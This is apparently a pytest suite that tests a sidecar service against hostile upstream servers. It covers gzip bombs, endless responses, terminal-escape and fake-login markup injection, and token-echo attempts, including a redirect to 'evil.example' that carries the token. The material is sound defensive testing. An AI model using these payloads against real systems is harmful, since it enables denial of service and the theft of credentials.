"""A side that lies, drips or answers without end neither stops the sidecar nor fills its memory."""

import json
from base64 import b64encode
from collections.abc import Iterator
from contextlib import ExitStack
from urllib.parse import quote

import pytest
from redis import Redis

from sidecar.web.slots import OF_ONE_DESTINATION, OF_SOURCE
from tests.stack import liar
from tests.stack.answering import Answer
from tests.stack.hostile_site import SOURCE_TOKEN, TOKEN, HostileSite, hostile_site
from tests.stack.leaks import everything_in, files_below, leaks
from tests.stack.liar import Attack, Liar
from tests.stack.pretender import data_answer

MAX_MEGABYTES = 250
ATTACKS: list[Attack] = [
    liar.gzip_bomb(),
    liar.twice_packed_bomb(),
    liar.endless_body,
    liar.endless_headers,
    liar.endless_chunk_size,
    liar.endless_trailers,
    liar.many_values(),
    liar.deep_values(),
]


@pytest.fixture(scope="module")
def module_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostileSite]:
    with hostile_site(tmp_path_factory.mktemp("hostile")) as site:
        yield site


@pytest.fixture
def site(module_site: HostileSite) -> Iterator[HostileSite]:
    yield module_site
    module_site.behave()


def test_a_check_between_two_that_behave_succeeds(site: HostileSite) -> None:
    """Otherwise the tests below would prove nothing."""
    answer = site.request("POST", "/check", site.choices())
    assert (answer.status_code, answer.json()["compatible"]) == (200, True)


def test_answers_without_end_end_a_check_in_little_memory(site: HostileSite) -> None:
    for attack in ATTACKS:
        for path in ("/users/me", "/schema/snapshot", "/fields"):
            site.destination.attacks = {path: attack}
            answer = site.request("POST", "/check", site.choices())
            (error,) = answer.json()["errors"]
            assert answer.status_code in (400, 502), (attack, error)
            assert error["code"] in (
                "ANSWER_TOO_LARGE", "DESTINATION_UNREACHABLE", "NOT_A_DIRECTUS", "UNREACHABLE"
            )  # fmt: skip
            assert site.seconds_of("/health") < 1
    # As many values as an answer may have.
    site.destination.attacks = {"/fields": liar.many_values(740_000)}
    answer = site.request("POST", "/check", site.choices())
    assert answer.json()["errors"][0]["code"] == "NOT_A_DIRECTUS"
    assert site.peak_megabytes() < MAX_MEGABYTES


def test_health_and_the_page_answer_while_all_sides_drip(site: HostileSite) -> None:
    with ExitStack() as stack:
        destinations = [stack.enter_context(Liar(f"liar {number}")) for number in range(8)]
        for side in (site.source, *destinations):
            side.every = side.drip
        for destination in destinations * 8:
            site.request_in_background("POST", "/check", site.choices(destination.url))
            site.request_in_background("GET", "/options")
            site.request_in_background("GET", "/presets")
        for _ in range(OF_SOURCE):
            assert site.source.asked.acquire(timeout=30)
        assert max(site.seconds_of(path) for path in ("/health", "/runs") * 10) < 1
        refused = site.request("GET", "/options")
        assert (refused.status_code, refused.json()["errors"][0]["code"]) == (503, "SIDE_BUSY")


def test_one_slow_destination_holds_only_its_own_slots(site: HostileSite) -> None:
    site.destination.every = site.destination.drip
    for _ in range(12):
        site.request_in_background("POST", "/check", site.choices())
    for _ in range(OF_ONE_DESTINATION):
        assert site.destination.asked.acquire(timeout=30)
    with Liar("another") as another:
        assert site.request("POST", "/check", site.choices(another.url)).status_code == 200
    refused = site.request("POST", "/check", site.choices())
    assert (refused.status_code, refused.json()["errors"][0]["code"]) == (503, "SIDE_BUSY")


def test_an_announced_limit_of_next_to_nothing_stops_nobody(site: HostileSite) -> None:
    limit = {"points": 1, "duration": 10**9}
    for side in (site.source, site.destination):
        side.answers["/server/info"] = data_answer({"rateLimit": limit})
    for _ in range(12):
        site.request_in_background("POST", "/check", site.choices(options=["users", "flows"]))
        site.request_in_background("GET", "/options")
    assert max(site.seconds_of(path) for path in ("/health", "/runs") * 10) < 1


EVIL = (
    "\x1b[2J<div style='position:fixed'><input type=password></div> [Log in](http://evil.example) "
    "[bold red]"
)


def test_what_a_side_says_is_shown_as_data_and_repeats_no_token(site: HostileSite) -> None:
    """The destination answers the worker with markup, its token in several forms, and 50 kB."""
    run_id = site.request("POST", "/runs", site.choices(dry_run=False)).json()["id"]
    echo = f"{TOKEN} {quote(TOKEN, safe='')} {b64encode(TOKEN.encode()).decode()}"
    site.destination.answers["/schema/snapshot"] = _error(f"{EVIL} {echo} {'x' * 50_000}")
    site.source.answers["/notifications"] = _error(f"{EVIL} {SOURCE_TOKEN}")
    site.worker.start()
    try:
        run = site.wait_for_end(run_id)
    finally:
        site.worker.process.stop()
    assert run["status"] == "refused"
    assert "position:fixed" in run["message"]
    texts = [run["message"], *(line["message"] for line in run["log"]["lines"])]
    assert all(len(text) <= 2_000 and "\x1b" not in text for text in texts)
    (notification,) = site.bodies_of(site.source, "/notifications?fields=id")
    assert not any(word in notification for word in ("position", "evil", "password"))
    assert "Reason: `" in notification
    (listed,) = (one for one in site.request("GET", "/runs").json()["runs"] if one["id"] == run_id)
    assert (listed["status"], listed["totals"]["source"]) == ("refused", 0)
    with Redis.from_url(site.redis.url) as redis:
        places = {**files_below(site.logs), **everything_in(redis), "run": json.dumps(run)}
    secrets = {"destination": TOKEN, "encoded": quote(TOKEN, safe=""), "source": SOURCE_TOKEN}
    assert leaks({**places, "notification": notification}, secrets) == []


@pytest.mark.parametrize("path", ["/users/me", "/server/ping", "/schema/snapshot", "/fields"])
def test_no_answer_repeats_a_token(site: HostileSite, path: str) -> None:
    for echo in (TOKEN, quote(TOKEN, safe=""), b64encode(TOKEN.encode()).decode()):
        for attack in (
            _error(echo),
            _error("no", code=echo),
            (302, {"Location": f"http://evil.example/?t={echo}"}, b""),
            (200, {}, f'{{"data": ["{echo}"]}}'.encode()),
            (200, {}, f'{{"data": {{"directus": "11.{echo}", "vendor": "{echo}"}}}}'.encode()),
        ):
            site.destination.answers = {path: attack}
            answer = site.request("POST", "/check", site.choices())
            assert answer.status_code in (200, 400, 502), answer.text
            assert echo not in answer.text
    secrets = {"plain": TOKEN, "encoded": quote(TOKEN, safe="")}
    assert leaks(files_below(site.logs), secrets) == []


def test_two_addresses_of_one_destination_get_one_run(site: HostileSite) -> None:
    first = site.request("POST", "/runs", site.choices()).json()["id"]
    other = site.destination.url.replace("127.0.0.1", "localhost")
    refused = site.request("POST", "/runs", site.choices(other))
    (error,) = refused.json()["errors"]
    assert (refused.status_code, error["code"], error["run"]) == (409, "DESTINATION_BUSY", first)
    site.request("POST", f"/runs/{first}/cancel")
    second = site.request("POST", "/runs", site.choices(other))
    assert second.status_code == 202
    site.request("POST", f"/runs/{second.json()['id']}/cancel")


def _error(message: str, code: str = "FORBIDDEN") -> Answer:
    error = {"message": message, "extensions": {"code": code}}
    return 400, {"Content-Type": "application/json"}, json.dumps({"errors": [error]}).encode()
